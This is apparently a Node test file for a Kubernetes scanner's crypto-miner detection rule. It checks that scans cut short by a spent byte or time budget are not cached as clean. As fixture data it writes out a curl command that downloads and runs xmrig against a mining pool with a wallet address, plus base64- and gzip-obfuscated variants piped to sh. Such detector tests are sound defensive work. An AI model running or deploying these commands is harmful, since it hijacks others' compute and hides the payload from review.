import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import { createBudget, DEFAULT_LIMITS, type Budget } from '../../src/core/budget.js';
import { DEFAULT_CONFIG, type KfguardConfig } from '../../src/core/config-types.js';
import type { RuleContext, Violation } from '../../src/core/rule.js';
import type { K8sObject } from '../../src/core/types.js';
import { buildInventory } from '../../src/k8s/inventory.js';
import cryptoMinerWorkload from '../../src/rules/threat/crypto-miner-workload.rule.js';

/**
 * The attacker's order of play in one long-lived process (webhook, watch, audit): an object whose
 * budget is spent holds the miner's text twice, so the second reading is cut for a reason already
 * recorded; then the miner alone. A reading cut short must never be replayed as the miner's.
 */

function configWith(step: string): KfguardConfig {
  // A build step named nowhere in the texts: a fresh indicator set, so a fresh memo per test.
  return { ...DEFAULT_CONFIG, rules: { ...DEFAULT_CONFIG.rules, 'crypto-miner-workload': { options: { buildSteps: [step] } } } } as KfguardConfig;
}

function judge(object: K8sObject, config: KfguardConfig, budget: Budget): Violation[] {
  const ctx = { source: 'manifest', budget, inventory: buildInventory([]), config } as unknown as RuleContext;
  return [...(cryptoMinerWorkload.check?.(object, ctx) ?? [])];
}

const MINER = 'curl -sL https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz | tar xz && ./xmrig -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
const HIDDEN = ['sh', '-c', `echo ${Buffer.from(MINER).toString('base64')} | base64 -d | sh`];

function pod(name: string, containers: number): K8sObject {
  const list = Array.from({ length: containers }, (_, i) => ({ name: `c${i}`, image: 'busybox', command: HIDDEN }));
  return { apiVersion: 'v1', kind: 'Pod', metadata: { name, namespace: 'ml' }, spec: { containers: list } };
}

describe('a reading cut short is not remembered', () => {
  const cases: [string, () => Budget][] = [
    ['byte budget already spent', () => createBudget({ ...DEFAULT_LIMITS, bytes: 0 })],
    ['time already up', () => {
      let clock = 0;
      return createBudget({ ...DEFAULT_LIMITS, timeMs: 0 }, () => clock++);
    }],
  ];
  for (const [why, spent] of cases) {
    it(`${why}: the miner alone is still critical afterwards`, () => {
      const config = configWith(`kfguard-memo-poisoning-${why}`);
      judge(pod('spent', 3), config, spent());
      const verdict = judge(pod('miner', 1), config, createBudget(DEFAULT_LIMITS));
      assert.deepEqual(verdict.map((v) => v.severity), ['critical']);
    });
  }
});

describe('a reading that skipped a large layer as already read is not remembered', () => {
  it('the miner alone is still critical after an object that held its layer at an earlier site', () => {
    const config = configWith('kfguard-memo-poisoning-large-layer');
    // Inflates past the size read once per object; the text itself stays small enough to remember.
    const payload = gzipSync(`${MINER}\n#${' '.repeat(70_000)}`).toString('base64');
    const script = `echo ${payload} | base64 -d | gunzip | sh`;
    const container = (name: string, shell: string) => ({ name, image: 'busybox', command: [shell, '-c', script] });
    const holder: K8sObject = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'holder', namespace: 'ml' }, spec: { containers: [container('a', 'bash'), container('b', 'sh'), container('c', 'sh')] } };
    const miner: K8sObject = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'miner', namespace: 'ml' }, spec: { containers: [container('main', 'sh')] } };
    judge(holder, config, createBudget(DEFAULT_LIMITS));
    assert.deepEqual(judge(miner, config, createBudget(DEFAULT_LIMITS)).map((v) => v.severity), ['critical']);
  });
});
